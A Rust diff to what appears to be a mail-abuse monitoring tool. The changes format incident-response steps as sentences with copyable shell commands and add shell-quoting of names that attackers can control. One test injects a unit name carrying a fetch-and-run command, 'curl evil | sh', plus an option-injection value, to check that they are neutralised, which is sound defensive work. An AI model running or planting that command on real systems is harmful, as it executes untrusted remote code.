@@ -71,7 +71,8 @@ fn of_signs(finding: &Finding) -> Option<String> {
     ))
 }
 
-/// What to do next, the first thing first, with commands that can be copied.
+/// What to do next, the first thing first: a sentence each, and below it, each in a line of its own, commands that can be
+/// copied.
 pub(super) fn next(alert: &Alert) -> Vec<String> {
     let mut steps = Vec::new();
     if let Some(worst) = &alert.worst {
@@ -89,78 +90,101 @@ pub(super) fn next(alert: &Alert) -> Vec<String> {
 fn look(alert: &Alert, worst: &Attempt, steps: &mut Vec<String>) {
     if worst.pid == 0 {
         if let Some(address) = &alert.who.address {
-            steps.push(format!(
-                "The mail comes from {address}, behind this host: find that machine (ip neigh show {address}) and look \
-                 there; from here only its packets are seen."
-            ));
+            let sentence = format!(
+                "The mail comes from {address}, behind this host: find that machine and look there. From here only its \
+                 packets are seen."
+            );
+            steps.push(step(&sentence, &[arg(address).map(|address| format!("ip neigh show {address}"))]));
         }
         return;
     }
     let pid = worst.pid;
-    steps.push(format!(
-        "See what it is, while it runs: portreeve explain --pid {pid}; ls -l /proc/{pid}/exe /proc/{pid}/cwd; \
-         tr '\\0' ' ' < /proc/{pid}/cmdline"
-    ));
+    let commands = [
+        format!("portreeve explain --pid {pid}"),
+        format!("ls -l /proc/{pid}/exe /proc/{pid}/cwd"),
+        format!("tr '\\0' ' ' < /proc/{pid}/cmdline"),
+    ];
+    steps.push(step("See what it is, while it runs:", &commands.map(Some)));
     if worst.exe_deleted || worst.exe_in_memory {
         let from = if worst.exe_in_memory { "was never a file" } else { "is deleted" };
-        steps.push(format!(
-            "Its program {from}, and is gone when the process ends. Keep it first: cp /proc/{pid}/exe \
-             /root/alert-{}.bin; sha256sum /root/alert-{}.bin",
-            alert.id, alert.id
+        let kept = format!("/root/alert-{}.bin", alert.id);
+        steps.push(step(
+            &format!("Its program {from}, and is gone when the process ends. Keep a copy first:"),
+            &[Some(format!("cp /proc/{pid}/exe {kept} && sha256sum {kept}"))],
         ));
     } else if let Some(sha256) = &alert.sha256 {
-        steps.push(format!("Ask whoever keeps lists of known programs for its SHA-256: {sha256}"));
+        steps.push(format!("Ask whoever you trust with lists of malware for its SHA-256, {sha256}."));
     }
     if alert.severity == Severity::Critical {
         let parent = worst.parents.first().filter(|parent| parent.pid > 1);
-        let parent = parent.map(|parent| format!("; its parent {} ({}) may start it again", parent.comm, parent.pid));
-        steps.push(format!(
-            "Stop it, and look before you end it: kill -STOP {pid}, later kill -KILL {pid}{}",
-            parent.unwrap_or_default()
+        let parent = parent.map_or(String::new(), |parent| {
+            format!(" Its parent, {} ({}), may start it again.", parent.comm, parent.pid)
+        });
+        steps.push(step(
+            &format!("Stop it, look at it in peace, then end it.{parent}"),
+            &[Some(format!("kill -STOP {pid}")), Some(format!("kill -KILL {pid}"))],
         ));
     }
 }
 
 /// Where it may come from.
 fn cause(who: &Who, worst: &Attempt, steps: &mut Vec<String>) {
-    let user = who.user();
+    let user = who.user.as_deref().and_then(arg);
     // The nearest one that is known for starting things.
     let line = [&worst.comm].into_iter().chain(worst.parents.iter().map(|parent| &parent.comm));
     let by = |names: &[&str], comm: &str| names.iter().any(|name| comm.starts_with(name));
     let starter = line.into_iter().find(|comm| by(&WEB, comm) || by(&CRON, comm)).map_or("", String::as_str);
     if by(&WEB, starter) {
-        steps.push(format!(
-            "A web server started it: look for a web shell or a form that sends mail, files that {user} may write and \
-             that are new: find /var/www -user {user} -newermt '-14 days' -type f; and in the access log for POST \
-             requests at {}.",
+        let sentence = format!(
+            "A web server started it: look in the access log for POST requests about {}, and for a web shell or a form \
+             that sends mail among the files that are new:",
             worst.time.strftime("%Y-%m-%d %H:%M UTC")
-        ));
+        );
+        let find = |user| format!("find /var/www -user {user} -newermt '-14 days' -type f");
+        steps.push(step(&sentence, &[user.map(find)]));
     } else if by(&CRON, starter) {
-        steps.push(format!(
-            "cron started it: find the job (crontab -l -u {user}; grep -r . /etc/cron.d /etc/cron.daily) and let it hand \
-             its mail to the local mail server (MAILTO=, or sendmail in place of a connection to port 25)."
+        steps.push(step(
+            "cron started it: find the job, and let it hand its mail to the local mail server (MAILTO=, or sendmail) \
+             instead of connecting to port 25 itself:",
+            &[
+                user.map(|user| format!("crontab -l -u {user}")),
+                Some("grep -r . /etc/crontab /etc/cron.d /etc/cron.hourly /etc/cron.daily".to_owned()),
+            ],
         ));
-    } else if worst.session.is_some() {
-        let session = worst.session.as_deref().unwrap_or_default();
-        steps.push(format!(
-            "It was started in login session {session}: last -i {user}; loginctl session-status {session}"
-        ));
+    } else if let Some(session) = &worst.session {
+        let status = arg(session).map(|session| format!("loginctl session-status {session}"));
+        let sentence = format!("It was started in login session {session}; see who that is, and from where:");
+        steps.push(step(&sentence, &[status, user.map(|user| format!("last -i {user}"))]));
     } else if let Some(unit) = worst.unit.as_deref().filter(|_| worst.container.is_none()) {
-        steps.push(format!("It belongs to {unit}: systemctl status {unit}; journalctl -u {unit} --since -1h"));
-    }
-    if let Some(container) = &worst.container {
-        let inspect = match container.runtime.as_str() {
-            "podman" => format!("podman top {:.12}; podman diff {:.12}", container.id, container.id),
-            "docker" => format!("docker top {:.12}; docker diff {:.12}", container.id, container.id),
-            runtime => format!("the {runtime} container {:.12}", container.id),
+        let commands = match arg(unit) {
+            Some(unit) => [Some(format!("systemctl status {unit}")), Some(format!("journalctl --since -1h -u {unit}"))],
+            None => [None, None],
         };
-        steps.push(format!("It runs in a container: {inspect}"));
+        steps.push(step(&format!("It belongs to {unit}; see what that is at:"), &commands));
+    }
+    contained(worst, steps);
+}
+
+/// Containers, and the mail servers in them.
+fn contained(worst: &Attempt, steps: &mut Vec<String>) {
+    if let Some(container) = &worst.container {
+        let runtime = container.runtime.as_str();
+        let id = arg(&format!("{:.12}", container.id)).filter(|_| matches!(runtime, "docker" | "podman"));
+        let commands = match id {
+            Some(id) => [Some(format!("{runtime} top {id}")), Some(format!("{runtime} diff {id}"))],
+            None => [None, None],
+        };
+        let sentence = format!(
+            "It runs in the {runtime} container {:.12}; see what is there that its image does not have:",
+            container.id
+        );
+        steps.push(step(&sentence, &commands));
     }
     if is_mail_server(worst) {
-        let within = if worst.container.is_some() { "in a container " } else { "" };
+        let within = if worst.container.is_some() { " in a container" } else { "" };
         steps.push(format!(
-            "It is a mail server {within}that nobody has sanctioned. Let it use this host's mail server as its smart host \
-             (Postfix: relayhost = [ADDRESS OF THE HOST]:25; Exim: a manualroute router), or sanction it with a rule."
+            "It is a mail server{within} that nobody has sanctioned. Let it use this host's mail server as its smart host \
+             (Postfix: relayhost = [ADDRESS OF THIS HOST]; Exim: a manualroute router), or sanction it with a rule."
         ));
     }
 }
@@ -168,51 +192,76 @@ fn cause(who: &Who, worst: &Attempt, steps: &mut Vec<String>) {
 /// What is particular to a test.
 fn of_kind(kind: Kind, who: &Who) -> String {
     let user = who.user();
+    let name = who.user.as_deref().and_then(arg);
     match kind {
-        Kind::FanOut => {
-            "Did mail get out before it was found? See what passed: portreeve attempts --since 1d --json | \
-                         jq 'select(.verdict == \"allow\")'; and whether you are listed, by the address that this host \
-                         has outside."
-                .to_owned()
-        }
-        Kind::ManyPrograms => format!(
-            "Something of {user}'s keeps making programs: look for what starts them (ps -fu {user} --forest), and end \
-             that first, or they come back under new names."
+        Kind::FanOut => step(
+            "See whether anything got out before it was found, and if so whether this host is on a block list:",
+            &[Some("portreeve attempts --since 1d --json | jq -c 'select(.verdict == \"allow\")'".to_owned())],
+        ),
+        Kind::ManyPrograms => step(
+            &format!(
+                "Something of {user}'s keeps making programs: find what starts them, and end that first, or they come back \
+                 under new names:"
+            ),
+            &[name.map(|name| format!("ps -fu {name} --forest"))],
         ),
         Kind::Hammer => {
             "If it is a program of yours that retries without waiting, set its retry interval to minutes, or \
-                         its smart host to 127.0.0.1:25; a program that knows one open relay looks the same."
+                         let it use 127.0.0.1:25. A bot that knows one open relay looks the same."
                 .to_owned()
         }
-        Kind::Persistent => format!(
-            "It is slow and patient, so it was started by something that lasts: look at {user}'s timers and jobs \
-             (systemctl list-timers --all; crontab -l -u {user}) and for a process older than its login."
+        Kind::Persistent => step(
+            &format!(
+                "It is slow and patient, so something that lasts has started it: look at {user}'s timers and jobs:"
+            ),
+            &[Some("systemctl list-timers --all".to_owned()), name.map(|name| format!("crontab -l -u {name}"))],
         ),
-        Kind::LocalPath => "The mail is in the local queue or out already: look (mailq), hold what is left (Postfix: \
-                            postsuper -h ALL deferred; Exim: exim -bp and exim -Mf), and read one message before you \
-                            delete any."
-            .to_owned(),
+        Kind::LocalPath => step(
+            "The mail is in the local queue, or out already. Look; hold what is left (Postfix: postsuper -h ALL; Exim: \
+             exim -Mf ID); read one before you delete any:",
+            &[Some("mailq".to_owned())],
+        ),
     }
 }
 
 /// How the alert is closed.
 fn close(alert: &Alert, steps: &mut Vec<String>) {
     let id = alert.id;
-    let user = alert.who.euid.is_some_and(|euid| euid != 0).then(|| alert.who.user());
-    if alert.severity == Severity::Critical
-        && let Some(user) = user
-    {
-        steps.push(format!(
-            "If it is a spam bot: whoever put it there could run programs as {user}. Change that user's passwords and \
-             keys, mend the way in, then: portreeve alerts resolve {id} --as spam-bot"
-        ));
+    let user = alert.who.euid.filter(|euid| *euid != 0).map(|_| alert.who.user());
+    let mend = match user.filter(|_| alert.severity == Severity::Critical) {
+        Some(user) => format!(
+            "If it is a spam bot: whoever put it there could run programs as {user}. Mend the way in, change that user's \
+             passwords and keys, then:"
+        ),
+        None => "If it is a spam bot: mend the way in, then:".to_owned(),
+    };
+    steps.push(step(&mend, &[Some(format!("portreeve alerts resolve {id} --as spam-bot"))]));
+    let allow = format!("portreeve alerts allow {id}");
+    steps.push(step("If it may send: have the narrowest rule for it proposed:", &[Some(allow)]));
+    let resolve = format!("portreeve alerts resolve {id} --as misconfigured");
+    steps.push(step("If it is only set up wrongly: mend it, then:", &[Some(resolve)]));
+}
+
+/// A sentence with its commands.
+fn step(sentence: &str, commands: &[Option<String>]) -> String {
+    // A name with a line end in it would pass for a command.
+    let sentence = sentence.replace(char::is_control, " ");
+    let lines = [sentence].into_iter().chain(commands.iter().flatten().cloned());
+    lines.collect::<Vec<_>>().join("\n")
+}
+
+/// A name as an argument of a command that somebody may copy into root's shell. Cgroups, and with them units, sessions and
+/// containers, are named by those who make them: what the shell would read is quoted, and what the command would take for
+/// an option is no argument.
+fn arg(name: &str) -> Option<String> {
+    let harmless = |c: char| c.is_ascii_alphanumeric() || "@%_+=:,./-".contains(c);
+    if name.is_empty() || name.starts_with('-') || name.contains(char::is_control) {
+        None
+    } else if name.chars().all(harmless) {
+        Some(name.to_owned())
     } else {
-        steps.push(format!("If it is a spam bot: mend the way in, then: portreeve alerts resolve {id} --as spam-bot"));
+        Some(format!("'{}'", name.replace('\'', r"'\''")))
     }
-    steps.push(format!(
-        "If it may send: portreeve alerts allow {id} proposes the narrowest rule. If it is only set up wrongly: mend it, \
-         then portreeve alerts resolve {id} --as misconfigured"
-    ));
 }
 
 fn is_mail_server(worst: &Attempt) -> bool {
@@ -284,13 +333,31 @@ mod tests {
             w.parents = vec![Parent { pid: 1, uid: 0, comm: "master".into(), exe: None }];
         });
         assert!(contained.contains("docker top 0123456789ab") && contained.contains("smart host"), "{contained}");
-        assert!(contained.contains("kill -STOP 4711, later kill -KILL 4711\n"), "{contained}");
+        assert!(
+            contained.contains("Stop it, look at it in peace, then end it.\nkill -STOP 4711\nkill -KILL 4711\n"),
+            "{contained}"
+        );
         let session = steps(|w| {
             w.parents.clear();
             w.session = Some("7".into());
         });
         assert!(session.contains("loginctl session-status 7"), "{session}");
         assert!(steps(|w| w.parents.clear()).contains("systemctl status apache2.service"));
+    }
+
+    #[test]
+    fn what_an_attacker_names_is_no_command() {
+        let session = steps(|w| {
+            w.parents.clear();
+            w.unit = Some("x'; curl evil | sh #.service".into());
+        });
+        assert!(session.contains("\nsystemctl status 'x'\\''; curl evil | sh #.service'\n"), "{session}");
+        let option = steps(|w| {
+            w.parents.clear();
+            w.unit = Some("-Hevil.service".into());
+        });
+        assert!(!option.contains("systemctl status"), "{option}");
+        assert_eq!((arg("a\nb"), arg(""), arg("php@8.2.service")), (None, None, Some("php@8.2.service".to_owned())));
     }
 
     #[test]
